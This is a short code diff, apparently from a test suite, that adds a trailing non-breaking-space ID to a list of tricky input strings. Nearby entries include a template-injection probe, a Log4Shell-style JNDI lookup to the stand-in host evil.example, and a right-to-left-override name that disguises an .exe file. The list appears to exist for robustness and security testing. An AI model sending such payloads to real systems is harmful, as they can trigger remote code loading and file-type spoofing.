@@ -47,6 +47,7 @@ KNOWN = [
     "{{ 7*7 }}{% raw %}${jndi:ldap://evil.example/a}",
     "\u202egnp.exe\u2066\u200b\ufeff",
     "\u2028\u2029\x85",
+    "an ID that ends in a blank\xa0",
     "a\x00b",
     "half a pair \ud800 and \udc00",
     "NULL",
